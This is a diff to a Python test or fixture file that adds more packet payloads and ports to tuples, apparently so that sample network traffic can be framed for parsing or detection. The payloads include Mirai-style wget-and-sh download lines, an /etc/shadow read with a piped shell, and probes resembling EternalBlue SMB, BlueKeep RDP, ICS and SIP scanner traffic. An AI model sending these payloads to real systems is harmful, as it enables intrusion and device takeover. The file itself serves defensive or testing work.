@@ -243,9 +243,40 @@ PAYLOADS = (
     b"-ERR [AUTH] Invalid login\r\na1 NO [AUTHENTICATIONFAILED] failed\r\n",
     b"uid=0(root) gid=0(root)\n/etc/shadow|;wget http://x/y -O- | sh\n",
     b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40),
+    b"\0\1\0\0\0\6\1\6\0\0\0\7",
+    b"\3\0\0\x1f\2\xf0\x80\x32\1\0\0\0\1\0\x0e\0\0\x29" + bytes(13),
+    b"cat /proc/mounts; /bin/busybox ECCHI\r\nwget http://192.0.2.6/x; sh x\r\n",
+    b"\0\0\0\x50\xffSMB\x25" + bytes(56) + b"\x23\0\0\0",
+    b"\0\0\0\x80\xfeSMB\x40" + bytes(11) + b"\t" + bytes(53) + b"\x70\0" + bytes(44) + b"MZ",
+    b"\3\0\0\x40\2\xf0\x80\x7f\x65" + bytes(40) + b"MS_T120\0",
+    b"REGISTER sip:h SIP/2.0\r\nCall-ID: a\r\nCSeq: 1 REGISTER\r\nAuthorization: Digest\r\n\r\n",
+    b"INVITE sip:00972592277524@h SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n",
+    b"SIP/2.0 401 No\r\nCall-ID: a\r\nCSeq: 1 REGISTER\r\n\r\n",
     b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x03com\x00\x00\x01\x00\x01",
 )
-PORTS = (20, 21, 22, 23, 25, 53, 80, 110, 143, 443, 587, 1434, 3306, 8080, 40000, 0)
+PORTS = (
+    20,
+    21,
+    22,
+    23,
+    25,
+    53,
+    80,
+    102,
+    110,
+    143,
+    443,
+    445,
+    502,
+    587,
+    1434,
+    3306,
+    3389,
+    5060,
+    8080,
+    40000,
+    0,
+)
 
 
 def _framed(payload: bytes, ports: tuple[int, int], udp: bool) -> bytes:
